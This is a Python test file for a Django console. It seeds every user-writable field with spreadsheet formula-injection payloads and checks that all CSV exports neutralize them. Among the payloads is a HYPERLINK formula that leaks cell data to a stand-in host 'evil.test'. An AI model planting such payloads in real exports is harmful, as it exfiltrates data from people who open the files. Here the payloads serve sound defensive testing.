"""Every CSV export of the URLconf: no cell is run as a formula by a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from console.audit.models import AuditRecord, ReadCount
from console.connections import clients
from console.jobs.models import Item, Job, Secret
from console.ui.csv import FORMULA_SIGNS
from tests.console_process import CHECKOUT
from tests.damage import DamagingTransport, change_values
from tests.populated import PopulatedTeam, list_addresses

SignIn = Callable[[str], Client]
EVIL = '=HYPERLINK("evil.test?"&A1);=1+1|"=2+2\t@x'
# The current exports. A new export is tested too; a missing one fails.
KNOWN_EXPORTS = {
    "products:list",
    "devices:list",
    "devices:of-product",
    "jobs:list",
    "jobs:result",
    "devices:registration-secrets",
    "devices:registration-findings",
    "devices:registration-invalid-rows",
    "teams:audit",
    "teams:audit-reads",
}
# Exports whose cells start with text of the console, or with text that no outsider can write.
SAFE_TEXT_FIRST = {"jobs:list", "approvals:list"}


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet treats the cell as a formula. A plain number is not a formula."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(' "\t\r\n').startswith(tuple(FORMULA_SIGNS))
    return False


@pytest.fixture
def hostile(populated: PopulatedTeam, monkeypatch: pytest.MonkeyPatch, settings: Any) -> PopulatedTeam:
    """The populated team with a formula in every text that users, devices or the platform can write."""
    settings.CLOUD_CACHE_SECONDS = 0
    unchanged = {"True", "False", "r"}

    def replace_text(value: Any) -> Any:
        return EVIL if isinstance(value, str) and value not in unchanged else value

    damaged = DamagingTransport(populated.upstream, lambda response: change_values(response, replace_text))
    monkeypatch.setattr(clients, "transport_for", lambda connection: damaged)
    clients.drop_clients()
    team = populated.org.team
    AuditRecord.objects.create(
        team=team, operation=EVIL, actor_label=EVIL, target=EVIL, message=EVIL, code="=1+1", request_id="@x"
    )
    ReadCount.objects.create(
        team=team, day="2026-01-01", actor_label=EVIL, connection=EVIL, operation=EVIL, count=1
    )
    job = Job.objects.get(pk=populated.things["jobs"]["job"])
    job.params = {**job.params, "product_name": EVIL}
    job.file_name = EVIL
    job.state = Job.State.PARTIAL
    job.save()
    finding = {"findings": [["name_chars", EVIL, EVIL]], "cells": [EVIL, "-1+1", "\t=1", "＝1+1"]}
    Item.objects.create(job=job, number=1, key=EVIL, label=EVIL, outcome="succeeded", reason=EVIL)
    Item.objects.create(job=job, number=2, key=EVIL, label=EVIL, outcome="failed", reason=EVIL)
    Item.objects.create(job=job, number=3, key=EVIL, label=EVIL, outcome="skipped", data=finding)
    raw = {"findings": [["quotes", "", ""]], "raw": f"{EVIL},＝1,+1,-1,@x\r\n"}
    Item.objects.create(job=job, number=4, key="", outcome="skipped", data=raw)
    Secret.objects.create(job=job, key=EVIL, value=EVIL, expires_at=timezone.now() + timedelta(hours=1))
    return populated


def read_exports(populated: PopulatedTeam, client: Client) -> Iterator[tuple[str, str]]:
    """Yield the address name and the content of every CSV export."""
    for name in list_addresses():
        url = populated.url(name)
        key = populated.things["products"]["key"]
        response = client.get(f"{url}?format=csv&product={key}")
        if response.get("Content-Type", "").startswith("text/csv"):
            yield name, response.getvalue().decode("utf-8-sig")


def test_no_export_contains_a_cell_that_a_spreadsheet_would_run(
    hostile: PopulatedTeam, sign_in: SignIn
) -> None:
    exports, formulas, neutralized = set(), [], set()
    for name, text in read_exports(hostile, sign_in("owner")):
        exports.add(name)
        for separator in ",;\t|":  # each of them is the usual one somewhere
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
                formulas += [f"{name}: {cell!r}" for cell in row if is_formula(cell)]
                if any(cell.startswith("'=") for cell in row):
                    neutralized.add(name)
    assert formulas == []
    assert exports >= KNOWN_EXPORTS
    assert neutralized >= exports - SAFE_TEXT_FIRST, (
        "no formula was in the export: add one to the fixture `hostile`"
    )


def test_only_one_module_writes_csv() -> None:
    """Other modules pass rows to `console.ui.csv`, which neutralizes formulas."""
    offenders = []
    for path in Path(CHECKOUT, "console").rglob("*.py"):
        where = path.relative_to(CHECKOUT).as_posix()
        if where in {
            "console/ui/csv.py",
            "console/jobs/workbooks.py",
        }:  # the latter for the reader of imports
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            callee = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            sets_csv_type = (
                isinstance(node, ast.keyword)
                and node.arg == "content_type"
                and "csv" in ast.unparse(node.value)
            )
            if callee.endswith(("csv.writer", "DictWriter")) or sets_csv_type:
                offenders.append(f"{where}:{getattr(node, 'lineno', 0)}")
    assert offenders == []
